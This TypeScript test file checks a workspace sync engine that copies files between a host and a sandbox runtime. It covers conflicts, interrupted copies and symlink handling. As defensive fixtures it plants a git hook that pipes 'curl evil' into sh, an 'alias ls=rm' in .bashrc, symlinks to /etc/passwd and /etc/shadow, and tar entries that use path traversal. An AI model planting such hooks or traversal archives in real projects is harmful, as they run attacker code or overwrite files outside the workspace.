// The sync engine on real directories: a directory runtime runs the same helper script the containers run.
import { existsSync, lstatSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, chmodSync, mkdirSync, utimesSync, symlinkSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { BaselineStore } from "../../src/sync/baseline.js";
import { DirectoryRuntime } from "../../src/sync/dir-runtime.js";
import { WorkspaceSync } from "../../src/sync/engine.js";
import type { SyncConflict } from "../../src/sync/types.js";
import { build, quietLog, snapshot, tempDir } from "./tree.js";

const owner = { uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 };

let host: ReturnType<typeof tempDir>;
let copy: ReturnType<typeof tempDir>;
let state: ReturnType<typeof tempDir>;
let conflicts: SyncConflict[];

function engine(extra: Partial<ConstructorParameters<typeof WorkspaceSync>[0]> = {}): WorkspaceSync {
  const runtime = new DirectoryRuntime(copy.dir);
  return new WorkspaceSync({
    workspace: host.dir,
    runtime,
    store: new BaselineStore(state.dir, host.dir, runtime.id),
    log: quietLog,
    owner,
    onConflict: (c) => conflicts.push(c),
    ...extra,
  });
}

const H = (rel: string) => path.join(host.dir, rel);
const R = (rel: string) => path.join(copy.dir, rel);

beforeEach(() => {
  host = tempDir("acp-sync-host-");
  copy = tempDir("acp-sync-runtime-");
  state = tempDir("acp-sync-state-");
  conflicts = [];
  build(host.dir, {
    "README.md": "# project\n",
    "src/app.ts": "export const app = 1;\n",
    "src/data.bin": Buffer.from([0, 1, 2, 255, 254, 0, 10]),
    "bin/run.sh": { content: "#!/bin/sh\necho run\n", mode: 0o755 },
    "private.key": { content: "not really\n", mode: 0o600 },
    "secret-dir": { dir: 0o700 },
    "secret-dir/notes.txt": "notes\n",
    "docs/link-to-readme": { link: "../README.md" },
    "escape": { link: "/etc/passwd" },
    ".gitignore": "*.log\ngenerated/\n",
    "debug.log": "noise\n",
    "generated/out.js": "out\n",
    "node_modules/dep/index.js": "dep\n",
    "dist/bundle.js": "bundle\n",
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/config": "[core]\n",
    ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
  });
});

afterEach(() => {
  host.cleanup();
  copy.cleanup();
  state.cleanup();
});

describe("host → runtime", () => {
  it("copies the workspace byte for byte with modes and inside links, and leaves excluded paths out", async () => {
    const report = await engine({ excludes: ["secret-dir/"] }).toRuntime();
    const excluded = (rel: string) => /^(debug\.log|generated|node_modules|dist|escape|secret-dir)(\/|$)/.test(rel);
    expect(snapshot(copy.dir)).toEqual(snapshot(host.dir, excluded));
    expect(snapshot(copy.dir)["bin/run.sh"]).toMatch(/^file 755 /);
    expect(snapshot(copy.dir)["private.key"]).toMatch(/^file 600 /);
    expect(readFileSync(R("src/data.bin"))).toEqual(Buffer.from([0, 1, 2, 255, 254, 0, 10]));
    expect(report.skipped).toEqual([{ path: "escape", reason: "symlink to /etc/passwd points outside the workspace" }]);
    expect(report.direction).toBe("to-runtime");
    const copied = Object.keys(snapshot(copy.dir));
    expect(report.files).toBe(copied.length);
    expect(report.bytes).toBe(copied.reduce((sum, rel) => sum + (lstatSync(R(rel)).isFile() ? lstatSync(R(rel)).size : 0), 0));
  });

  it("sends .git into the runtime, hooks and config included, so git works there", async () => {
    await engine().toRuntime();
    expect(readFileSync(R(".git/config"), "utf8")).toBe("[core]\n");
    expect(existsSync(R(".git/hooks/pre-commit.sample"))).toBe(true);
  });

  it("sends only what changed on the host, and deletes what the host deleted", async () => {
    const sync = engine();
    await sync.toRuntime();
    writeFileSync(H("src/app.ts"), "export const app = 2;\n");
    rmSync(H("docs"), { recursive: true });
    rmSync(H("README.md"));
    chmodSync(H("private.key"), 0o640);
    const report = await sync.toRuntime();
    expect(report.files).toBe(2);
    expect(report.bytes).toBe("export const app = 2;\n".length + "not really\n".length);
    expect(report.deletions).toBe(3);
    expect(existsSync(R("docs"))).toBe(false);
    expect(existsSync(R("README.md"))).toBe(false);
    expect(readFileSync(R("src/app.ts"), "utf8")).toBe("export const app = 2;\n");
    expect(statSync(R("private.key")).mode & 0o777).toBe(0o640);
  });

  it("leaves files excluded on the runtime side alone when the host deletes their directory", async () => {
    const sync = engine();
    await sync.toRuntime();
    build(copy.dir, { "src/node_modules/x/index.js": "runtime only\n" });
    rmSync(H("src"), { recursive: true });
    const report = await sync.toRuntime();
    expect(readFileSync(R("src/node_modules/x/index.js"), "utf8")).toBe("runtime only\n");
    expect(existsSync(R("src/app.ts"))).toBe(false);
    expect(report.skipped).toContainEqual({ path: "src", reason: "directory not empty in the runtime (it holds files that do not travel); left in place" });
  });
});

describe("runtime → host", () => {
  it("brings back additions, changes, deletions, modes and inside links, byte for byte", async () => {
    const sync = engine();
    await sync.toRuntime();
    writeFileSync(R("src/app.ts"), "export const app = 3;\n");
    build(copy.dir, {
      "src/new/deep/file.ts": "deep\n",
      "tool.sh": { content: "#!/bin/sh\n", mode: 0o750 },
      "src/alias": { link: "new/deep/file.ts" },
      "big.bin": Buffer.alloc(3 * 1024 * 1024, 7),
    });
    chmodSync(R("README.md"), 0o755);
    rmSync(R("bin"), { recursive: true });
    rmSync(R("src/data.bin"));
    const report = await sync.toHost();
    const hostView = snapshot(host.dir, (rel) => /^(debug\.log|generated|node_modules|dist|escape)(\/|$)/.test(rel));
    expect(hostView).toEqual(snapshot(copy.dir));
    expect(existsSync(H("bin"))).toBe(false);
    expect(readFileSync(H("big.bin")).equals(Buffer.alloc(3 * 1024 * 1024, 7))).toBe(true);
    expect(report.deletions).toBe(3);
    expect(report.conflicts).toEqual([]);
    // the host's excluded files were left alone
    expect(readFileSync(H("node_modules/dep/index.js"), "utf8")).toBe("dep\n");
    expect(readFileSync(H("debug.log"), "utf8")).toBe("noise\n");
  });

  it("moves only changed files back: nothing when nothing changed, one file when one did", async () => {
    const sync = engine();
    await sync.toRuntime();
    const idle = await sync.toHost();
    expect([idle.files, idle.bytes, idle.deletions]).toEqual([0, 0, 0]);
    writeFileSync(R("README.md"), "# changed\n");
    const one = await sync.toHost();
    expect([one.files, one.bytes]).toEqual([1, "# changed\n".length]);
  });

  it("never brings protected paths back, and says so", async () => {
    const sync = engine();
    await sync.toRuntime();
    build(copy.dir, {
      ".git/hooks/pre-commit": { content: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755 },
      ".vscode/tasks.json": "{}",
      ".envrc": "export X=1\n",
      ".mcp.json": "{}",
      "sub/.bashrc": "alias ls=rm\n",
      ".git/refs/heads/main": "abc\n",
    });
    writeFileSync(R(".git/config"), "[core]\n\thooksPath = /tmp/x\n");
    const report = await sync.toHost();
    expect(existsSync(H(".git/hooks/pre-commit"))).toBe(false);
    expect(existsSync(H(".vscode/tasks.json"))).toBe(false);
    expect(existsSync(H(".envrc"))).toBe(false);
    expect(existsSync(H(".mcp.json"))).toBe(false);
    expect(existsSync(H("sub/.bashrc"))).toBe(false);
    expect(readFileSync(H(".git/config"), "utf8")).toBe("[core]\n");
    // the rest of .git does travel
    expect(readFileSync(H(".git/refs/heads/main"), "utf8")).toBe("abc\n");
    const reasons = Object.fromEntries(report.skipped.map((s) => [s.path, s.reason]));
    expect(reasons[".git/hooks/pre-commit"]).toBe("protected (**/.git/hooks/**): never brought back to the host");
    expect(reasons[".git/config"]).toBe("protected (**/.git/config): never brought back to the host");
    expect(reasons[".envrc"]).toMatch(/^protected/);
  });

  it("does not bring back links leaving the workspace, nor files excluded in the runtime", async () => {
    const sync = engine();
    await sync.toRuntime();
    build(copy.dir, { "out": { link: "../../etc" }, "node_modules/new/x.js": "x\n", "build/app.js": "app\n", "trace.log": "log\n" });
    const report = await sync.toHost();
    expect(existsSync(H("out"))).toBe(false);
    expect(existsSync(H("node_modules/new"))).toBe(false);
    expect(existsSync(H("build"))).toBe(false);
    expect(existsSync(H("trace.log"))).toBe(false);
    expect(report.skipped).toContainEqual({ path: "out", reason: "symlink to ../../etc points outside the workspace" });
  });

  it("replaces a file by a directory and a directory by a file", async () => {
    const sync = engine();
    await sync.toRuntime();
    rmSync(R("README.md"));
    build(copy.dir, { "README.md/index.md": "now a dir\n" });
    rmSync(R("docs"), { recursive: true });
    writeFileSync(R("docs"), "now a file\n");
    await sync.toHost();
    expect(readFileSync(H("README.md/index.md"), "utf8")).toBe("now a dir\n");
    expect(readFileSync(H("docs"), "utf8")).toBe("now a file\n");
  });
});

describe("conflicts", () => {
  it("keeps the host file, puts the runtime's beside it, reports it, and sends the host's version on", async () => {
    const sync = engine();
    await sync.toRuntime();
    writeFileSync(H("src/app.ts"), "host edit\n");
    writeFileSync(R("src/app.ts"), "runtime edit\n");
    const report = await sync.toHost();
    expect(readFileSync(H("src/app.ts"), "utf8")).toBe("host edit\n");
    expect(readFileSync(H("src/app.acp-sandbox-conflict.ts"), "utf8")).toBe("runtime edit\n");
    const expected = { path: "src/app.ts", detail: "was changed in the runtime and changed on the host; the host copy stays", keptAs: "src/app.acp-sandbox-conflict.ts" };
    expect(report.conflicts).toEqual([expected]);
    expect(conflicts).toEqual([expected]);
    await sync.toRuntime();
    expect(readFileSync(R("src/app.ts"), "utf8")).toBe("host edit\n");
    // a second conflict on the same file does not overwrite the first copy
    writeFileSync(H("src/app.ts"), "host again\n");
    writeFileSync(R("src/app.ts"), "runtime again\n");
    await sync.toHost();
    expect(readFileSync(H("src/app.acp-sandbox-conflict.ts"), "utf8")).toBe("runtime edit\n");
    expect(readFileSync(H("src/app.acp-sandbox-conflict-2.ts"), "utf8")).toBe("runtime again\n");
  });

  it("a file deleted on the host but changed in the runtime: nothing lost, the runtime's version kept beside", async () => {
    const sync = engine();
    await sync.toRuntime();
    rmSync(H("README.md"));
    writeFileSync(R("README.md"), "agent's edit\n");
    const report = await sync.toHost();
    expect(existsSync(H("README.md"))).toBe(false);
    expect(readFileSync(H("README.acp-sandbox-conflict.md"), "utf8")).toBe("agent's edit\n");
    expect(report.conflicts[0]?.detail).toBe("was changed in the runtime and deleted on the host; the host copy stays");
  });

  it("a file changed on the host but deleted in the runtime stays on the host and goes back", async () => {
    const sync = engine();
    await sync.toRuntime();
    writeFileSync(H("README.md"), "user's edit\n");
    rmSync(R("README.md"));
    const report = await sync.toHost();
    expect(readFileSync(H("README.md"), "utf8")).toBe("user's edit\n");
    expect(report.conflicts).toEqual([{ path: "README.md", detail: "was deleted in the runtime and changed on the host; the host copy stays" }]);
    await sync.toRuntime();
    expect(readFileSync(R("README.md"), "utf8")).toBe("user's edit\n");
  });

  it("a first sync into a runtime that already holds some files compares them by content: equal ones settle, others are held", async () => {
    mkdirSync(R("src"), { recursive: true });
    writeFileSync(R("src/app.ts"), "export const app = 1;\n");
    writeFileSync(R("README.md"), "the runtime's own\n");
    const sync = engine();
    const report = await sync.toRuntime();
    expect(readFileSync(R("README.md"), "utf8")).toBe("the runtime's own\n");
    expect(readFileSync(R("bin/run.sh"), "utf8")).toBe("#!/bin/sh\necho run\n");
    expect(report.conflicts).toEqual([]);
    const baseline = await new BaselineStore(state.dir, host.dir, new DirectoryRuntime(copy.dir).id).load();
    expect(baseline.get("src/app.ts")?.hash).toBeDefined();
    expect(baseline.has("README.md")).toBe(false);
  });

  it("records the host stat of every file a first sync sent, so the next one hashes none of them again", async () => {
    const sync = engine();
    await sync.toRuntime();
    const baseline = await new BaselineStore(state.dir, host.dir, new DirectoryRuntime(copy.dir).id).load();
    for (const rel of ["README.md", "src/app.ts", "src/data.bin", "bin/run.sh"]) {
      const entry = baseline.get(rel);
      expect(entry?.hash, rel).toMatch(/^[0-9a-f]{64}$/);
      expect(entry?.hostMtimeMs, rel).toBe(statSync(H(rel)).mtimeMs);
    }
  });

  it("the same change on both sides is no conflict", async () => {
    const sync = engine();
    await sync.toRuntime();
    writeFileSync(H("README.md"), "same\n");
    writeFileSync(R("README.md"), "same\n");
    const report = await sync.toHost();
    expect(report.conflicts).toEqual([]);
    expect(readdirSync(host.dir).filter((n) => n.includes("conflict"))).toEqual([]);
  });
});

describe("interrupted syncs", () => {
  it("a copy cut off halfway leaves no half-written file, and the next sync brings everything", async () => {
    const runtime = new DirectoryRuntime(copy.dir);
    const store = new BaselineStore(state.dir, host.dir, runtime.id);
    const full = new WorkspaceSync({ workspace: host.dir, runtime, store, log: quietLog, owner });
    await full.toRuntime();
    const before = readFileSync(H("src/app.ts"));
    writeFileSync(R("src/app.ts"), "x".repeat(2 * 1024 * 1024));
    writeFileSync(R("src/z-late.ts"), "late\n");
    // The same runtime, with its archive stream cut after 1 MB (a bridge killed, a connection dropped).
    const cut: typeof runtime = Object.assign(Object.create(runtime) as DirectoryRuntime, {
      fetch: async (paths: readonly string[]) => {
        const source = await runtime.fetch(paths);
        const { PassThrough } = await import("node:stream");
        const out = new PassThrough();
        let seen = 0;
        source.on("data", (chunk: Buffer) => {
          if (seen >= 1024 * 1024) return;
          seen += chunk.length;
          out.write(chunk);
          if (seen >= 1024 * 1024) out.destroy(new Error("connection lost"));
        });
        return out;
      },
    });
    const broken = new WorkspaceSync({ workspace: host.dir, runtime: cut, store, log: quietLog, owner });
    await expect(broken.toHost()).rejects.toThrow(/^the copy from the runtime broke off after 0 of 2 files \(.*\); nothing half-written was left, sync again$/);
    expect(readFileSync(H("src/app.ts")).equals(before)).toBe(true);
    expect(readdirSync(H("src")).filter((n) => n.includes("acp-sandbox-tmp"))).toEqual([]);
    const report = await full.toHost();
    expect(report.conflicts).toEqual([]);
    expect(readFileSync(H("src/app.ts"), "utf8")).toBe("x".repeat(2 * 1024 * 1024));
    expect(readFileSync(H("src/z-late.ts"), "utf8")).toBe("late\n");
  });

  it("removes temp files a killed sync left behind", async () => {
    writeFileSync(H("src/.app.ts.acp-sandbox-tmp-0123456789ab"), "half");
    await engine().toRuntime();
    expect(existsSync(H("src/.app.ts.acp-sandbox-tmp-0123456789ab"))).toBe(false);
    expect(readdirSync(R("src")).some((n) => n.includes("acp-sandbox-tmp"))).toBe(false);
  });
});

describe("a runtime that sends hostile archive entries", () => {
  it("refuses and reports each one, and lands only what was asked for", async () => {
    const runtime = new DirectoryRuntime(copy.dir);
    const store = new BaselineStore(state.dir, host.dir, runtime.id);
    await new WorkspaceSync({ workspace: host.dir, runtime, store, log: quietLog, owner }).toRuntime();
    writeFileSync(R("README.md"), "# honest change\n");
    const hostile: DirectoryRuntime = Object.assign(Object.create(runtime) as DirectoryRuntime, {
      fetch: async (paths: readonly string[]) => {
        const { PassThrough } = await import("node:stream");
        const tar = (await import("tar-stream")).default;
        const pack = tar.pack();
        pack.entry({ name: "../../escaped.txt" }, "x");
        pack.entry({ name: "src/../../escaped2.txt" }, "x");
        pack.entry({ name: "dev-zero", type: "character-device", devmajor: 1, devminor: 5 });
        pack.entry({ name: "src/app.ts", type: "symlink", linkname: "/etc/shadow" });
        pack.entry({ name: "src/extra.ts" }, "not asked for\n");
        const honest = await runtime.fetch(paths);
        const chunks: Buffer[] = [];
        for await (const chunk of honest) chunks.push(chunk as Buffer);
        const extract = tar.extract();
        const done = (async () => {
          for await (const entry of extract) {
            const body: Buffer[] = [];
            for await (const c of entry) body.push(c as Buffer);
            pack.entry(entry.header, Buffer.concat(body));
          }
          pack.finalize();
        })();
        extract.end(Buffer.concat(chunks));
        await done;
        const out = new PassThrough();
        pack.pipe(out);
        return out;
      },
    });
    const report = await new WorkspaceSync({ workspace: host.dir, runtime: hostile, store, log: quietLog, owner }).toHost();
    expect(readFileSync(H("README.md"), "utf8")).toBe("# honest change\n");
    expect(readFileSync(H("src/app.ts"), "utf8")).toBe("export const app = 1;\n");
    expect(existsSync(H("src/extra.ts"))).toBe(false);
    expect(existsSync(path.join(host.dir, "..", "escaped.txt"))).toBe(false);
    expect(existsSync(H("dev-zero"))).toBe(false);
    expect(report.skipped).toEqual([
      { path: "../../escaped.txt", reason: "refused: a path with .." },
      { path: "src/../../escaped2.txt", reason: "refused: a path with .." },
      { path: "dev-zero", reason: "refused: a device file" },
      { path: "src/app.ts", reason: "refused: a symlink to /etc/shadow that points outside the workspace" },
      { path: "src/extra.ts", reason: "refused: the runtime sent a path that was not asked for" },
    ]);
    expect(report.files).toBe(1);
  });
});

describe("host writes never pass through links", () => {
  it("a runtime directory that is a symlink on the host is refused, not followed", async () => {
    const sync = engine();
    mkdirSync(H("target"), { recursive: true });
    await sync.toRuntime();
    // On the host, `hooks` is a link into .git/hooks; in the runtime it is a real directory with a file.
    symlinkSync(".git/hooks", H("hooks"));
    build(copy.dir, { "hooks/post-checkout": { content: "#!/bin/sh\nevil\n", mode: 0o755 } });
    const report = await sync.toHost();
    expect(existsSync(H(".git/hooks/post-checkout"))).toBe(false);
    expect(report.skipped).toContainEqual({ path: "hooks/post-checkout", reason: "refused: hooks is a symlink on the host; nothing is written through it" });
  });
});

describe("with a host watcher", () => {
  it("sees an edit that keeps size and mtime, which a stat comparison alone would miss", async () => {
    const { HostWatcher } = await import("../../src/sync/watch.js");
    const { Excludes } = await import("../../src/sync/excludes.js");
    const watcher = new HostWatcher(host.dir, new Excludes(host.dir));
    try {
      await watcher.ready;
      const sync = engine({ watcher });
      utimesSync(H("src/app.ts"), 1_700_000_000, 1_700_000_000);
      await sync.toRuntime();
      writeFileSync(H("src/app.ts"), "export const app = 9;\n"); // same length, and the same mtime:
      utimesSync(H("src/app.ts"), 1_700_000_000, 1_700_000_000);
      const deadline = Date.now() + 5000;
      while (!watcher.peek().has("src/app.ts") && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      // Without the watcher, size and mtime say nothing changed.
      expect((await engine().toRuntime()).files).toBe(0);
      expect(readFileSync(R("src/app.ts"), "utf8")).toBe("export const app = 1;\n");
      const report = await sync.toRuntime();
      expect(report.files).toBe(1);
      expect(readFileSync(R("src/app.ts"), "utf8")).toBe("export const app = 9;\n");
      // Nothing changed since: the watcher says so, and nothing is scanned or sent.
      const idle = await sync.toRuntime();
      expect(idle.files).toBe(0);
    } finally {
      await watcher.close();
    }
  });
});
